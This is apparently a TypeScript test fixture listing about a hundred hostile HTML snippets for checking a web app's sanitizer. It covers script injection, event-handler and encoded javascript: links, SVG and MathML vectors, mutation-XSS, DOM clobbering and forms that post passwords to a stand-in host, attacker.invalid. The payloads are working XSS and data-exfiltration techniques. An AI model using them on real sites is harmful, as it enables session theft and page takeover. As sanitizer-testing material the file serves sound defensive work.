/*
 * Server HTML as an attacker would write it into a content, a modal or legal conditions. Each one that succeeds sets `data-attacked` of
 * <html> to its id, requests something of attacker.invalid, or replaces something of the page. Tests run all of them.
 */
export interface HtmlAttack {
  id: string;
  html: string;
}

/** Where every request of an attack goes. */
export const ATTACKER_HOST = 'attacker.invalid';

/** `{run}` is a script, `{encoded}` the same in character references, `{url}` an address of the attacker. */
const BODIES: Readonly<Record<string, string>> = {
  // scripts
  script: '<script>{run}</script>',
  'script-src': '<script src="{url}"></script>',
  'script-module': '<script type="module">{run}</script>',
  'script-json-config': '<script id="vitrina-config" type="application/json">{"endpointBase":"{url}"}</script>',
  'script-importmap': '<script type="importmap">{"imports":{"/vitrina/":"{url}/"}}</script>',
  'script-speculation': '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["{url}"]}]}</script>',
  'script-split': '<scr<script>ipt>{run}</scr</script>ipt>',
  'script-case': '<ScRiPt >{run}</sCrIpT >',
  'script-slash': '<script/x>{run}</script>',
  'script-in-noscript': '<noscript><p title="</noscript><script>{run}</script>"></p></noscript>',
  'script-in-template': '<template><script>{run}</script></template>',
  'script-in-shadow': '<div><template shadowrootmode="open"><script>{run}</script><img src="{url}"></template></div>',
  // handlers
  'img-error': '<img src="/nothing" onerror="{run}">',
  'img-load': '<img src="/assets/lipa.svg" onload="{run}">',
  'img-slash': '<img/src="/nothing"/onerror="{run}">',
  'img-nul': '<img src="/nothing" on\u0000error="{run}">',
  'body-load': '<body onload="{run}">',
  'input-autofocus': '<input autofocus onfocus="{run}">',
  'details-toggle': '<details open ontoggle="{run}"><summary>x</summary>x</details>',
  'video-source-error': '<video><source src="/nothing" onerror="{run}"></video>',
  'audio-autoplay': '<audio autoplay src="{url}" onerror="{run}"></audio>',
  'marquee-start': '<marquee onstart="{run}">x</marquee>',
  'transition-run': '<p class="button" ontransitionrun="{run}" tabindex="0" style="transition:color 1s">x</p>',
  'animation-start': '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="{run}">x</p>',
  'pointer-over': '<p onpointerover="{run}" onmouseover="{run}">x</p>',
  'form-submit': '<form onsubmit="{run}"><button>x</button></form>',
  'content-visibility': '<p oncontentvisibilityautostatechange="{run}" style="content-visibility:auto">x</p>',
  'popover-toggle': '<button popovertarget="p1">x</button><p id="p1" popover onbeforetoggle="{run}">x</p>',
  // javascript: and its encodings
  'link-javascript': '<a href="javascript:{run}">x</a>',
  'link-case': '<a href="JaVaScRiPt:{run}">x</a>',
  'link-references': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{encoded}">x</a>',
  'link-hex-references': '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{encoded}">x</a>',
  'link-no-semicolons':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{encoded}">x</a>',
  'link-named-references': '<a href="java&Tab;script&colon;{encoded}">x</a>',
  'link-newline': '<a href="java\nscript:{run}">x</a>',
  'link-control': '<a href="\u0001javascript:{run}">x</a>',
  'link-vbscript': '<a href="vbscript:msgbox(1)">x</a>',
  'link-data': '<a href="data:text/html,<script>{run}</script>">x</a>',
  'link-blob': '<a href="blob:https://attacker.invalid/x">x</a>',
  'link-svg': '<svg><a xlink:href="javascript:{run}"><text y="20">x</text></a></svg>',
  'area-javascript': '<img src="/assets/lipa.svg" usemap="#m" alt=""><map name="m"><area shape="default" href="javascript:{run}"></map>',
  'form-action': '<form action="javascript:{run}"><button>x</button></form>',
  'button-formaction': '<form><button formaction="javascript:{run}">x</button></form>',
  'iframe-javascript': '<iframe src="javascript:parent.{run}"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="&lt;script&gt;parent.{encoded}&lt;/script&gt;"></iframe>',
  'iframe-foreign': '<iframe src="{url}"></iframe>',
  'object-data': '<object data="{url}" type="text/html"></object>',
  'embed-src': '<embed src="{url}">',
  'meta-refresh': '<meta http-equiv="refresh" content="0;url={url}">',
  'meta-policy': '<meta http-equiv="content-security-policy" content="script-src \'none\'">',
  // svg and math
  'svg-load': '<svg onload="{run}"></svg>',
  'svg-script': '<svg><script>{run}</script></svg>',
  'svg-script-href': '<svg><script href="{url}"></script></svg>',
  'svg-animate': '<svg><a id="a1"><text y="20">x</text></a><animate href="#a1" attributeName="href" values="javascript:{run}"/></svg>',
  'svg-set': '<svg><set attributeName="onmouseover" to="{run}"/></svg>',
  'svg-use': '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>',
  'svg-foreign-object': '<svg><foreignObject><iframe src="javascript:parent.{run}"></iframe></foreignObject></svg>',
  'svg-image': '<svg><image href="{url}" onerror="{run}"/></svg>',
  'math-action': '<math><maction actiontype="statusline" xlink:href="javascript:{run}">x</maction></math>',
  'math-link': '<math href="javascript:{run}"><mtext>x</mtext></math>',
  // mutation: harmless when parsed once, a script when parsed again
  'mutation-math-style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/nothing onerror={encoded}&gt;"></style>',
  'mutation-svg-style': '<svg></p><style><a id="</style><img src=/nothing onerror=\'{bare}\'>">',
  'mutation-form': '<form><math><mtext></form><form><mglyph><style></math><img src="/nothing" onerror="{run}">',
  'mutation-noscript': '<svg><noscript><style></noscript><img src="/nothing" onerror="{run}"></style></svg>',
  'mutation-title': '<svg><title><style></title><img src="/nothing" onerror="{run}"></style></svg>',
  'mutation-annotation':
    '<math><annotation-xml encoding="text/html"><style><img src="/nothing" onerror="{run}"></style></annotation-xml></math>',
  'mutation-select': '<select><template><style></select><img src="/nothing" onerror="{run}"></style></template></select>',
  'mutation-comment': '<!--><img src="/nothing" onerror="{run}">-->',
  'mutation-comment-bang': '<!--x--!><img src="/nothing" onerror="{run}">',
  'mutation-cdata': '<svg><![CDATA[><img src="/nothing" onerror="{run}">]]></svg>',
  'mutation-textarea': '<textarea><img title="</textarea><img src=/nothing onerror=\'{bare}\'>"></textarea>',
  'mutation-xmp': '<xmp><p title="</xmp><img src=/nothing onerror=\'{bare}\'>"></xmp>',
  'mutation-plaintext': '<p>x</p><plaintext><img src="/nothing" onerror="{run}">',
  'mutation-deep': `${'<div>'.repeat(600)}<img src="/nothing" onerror="{run}">${'</div>'.repeat(600)}`,
  'template-delimiters': '<p>{{constructor.constructor("{bare}")()}} ${{{bare}}} &lt;%={bare}%&gt;</p>',
  // the page's own elements and addresses
  base: '<base href="{url}/"><img src="picture.png" alt="">',
  'form-elsewhere': '<form action="{url}" method="post"><input name="password" type="password"><button>x</button></form>',
  'button-elsewhere': '<button form="f1" formaction="{url}">x</button><form id="f1"></form>',
  'input-of-other-form': '<input form="login" name="back" value="{url}"><button form="login" formaction="{url}">x</button>',
  'link-target': '<a href="{url}" target="_parent" ping="{url}" rel="opener">x</a>',
  'stylesheet-link': '<link rel="stylesheet" href="{url}">',
  'link-prefetch': '<link rel="prefetch" href="{url}"><link rel="preconnect" href="{url}"><link rel="dns-prefetch" href="{url}">',
  'style-element': '<style>body{display:none}@import "{url}";</style>',
  'style-attribute': '<p style="position:fixed;inset:0;z-index:2147483647;background:url({url})">x</p>',
  'img-foreign': '<img src="{url}" srcset="{url} 2x" alt="">',
  'picture-source': '<picture><source srcset="{url}"><img src="/assets/lipa.svg" alt=""></picture>',
  'video-poster': '<video poster="{url}" src="{url}" autoplay></video>',
  'track-src': '<video><track default src="{url}"></video>',
  'table-background': '<table background="{url}"><tr><td background="{url}">x</td></tr></table>',
  'clobber-vitrina': '<a id="vitrina"></a><a id="vitrina" name="modal" href="{url}">x</a>',
  'clobber-config': '<form id="vitrina-config"><input name="textContent"></form>',
  'clobber-document': '<form name="getElementById"></form><img name="cookie" alt=""><form name="body"></form>',
  'clobber-current-script': '<form name="currentScript"><input name="src" value="{url}"></form>',
  'clobber-attributes': '<form><input name="attributes"><input name="parentNode"><img src="/nothing" onerror="{run}"></form>',
  'clobber-content': '<div id="content"></div><div id="top"></div>',
  'clobber-window': '<iframe name="vitrina" src="about:blank"></iframe><iframe name="config" src="about:blank"></iframe>',
  'custom-element': '<vitrina-modal onclick="{run}" is="x-y">x</vitrina-modal>',
  'action-elsewhere': '<a href="/" data-vitrina-action="open-modal" data-source-url="{url}" data-name="x">x</a>',
  'placeholder-nested': `${'<div data-vitrina="search-bar">'.repeat(40)}${'</div>'.repeat(40)}`,
  'dialog-open': '<dialog open><p>x</p></dialog>',
  'contenteditable-autofocus': '<p contenteditable autofocus onfocus="{run}">x</p>',
  'accesskey-onclick': '<link rel="canonical" accesskey="x" onclick="{run}">',
  'title-and-head': '</div></body><head><title>x</title><meta name="referrer" content="unsafe-url"></head>',
  'closing-tags': '</div></div></div></dialog></main></body></html><p>x</p><script>{run}</script>',
};

const characterReferences = (text: string): string => [...text].map((char) => `&#${char.codePointAt(0)};`).join('');

export const HTML_ATTACKS: readonly HtmlAttack[] = Object.entries(BODIES).map(([id, body]) => {
  const run = `document.documentElement.setAttribute('data-attacked','${id}')`;
  // without quotes, for attributes that are quoted with single ones
  const bare = `document.documentElement.setAttribute(\`data-attacked\`,\`${id}\`)`;
  const html = body
    .replaceAll('{encoded}', () => characterReferences(run))
    .replaceAll('{run}', () => run)
    .replaceAll('{bare}', () => bare)
    .replaceAll('{url}', () => `https://${ATTACKER_HOST}/${id}`);
  return { id, html };
});

/** All in one text, each in a paragraph that names it. Those that swallow the rest are last. */
export const ALL_ATTACKS = [...HTML_ATTACKS]
  .sort((first, second) => Number(swallows(first)) - Number(swallows(second)))
  .map(({ id, html }) => `<p>${id}</p>${html}`)
  .join('');

function swallows({ id }: HtmlAttack): boolean {
  return /plaintext|mutation-|closing|script-in-noscript|title-and-head/.test(id);
}
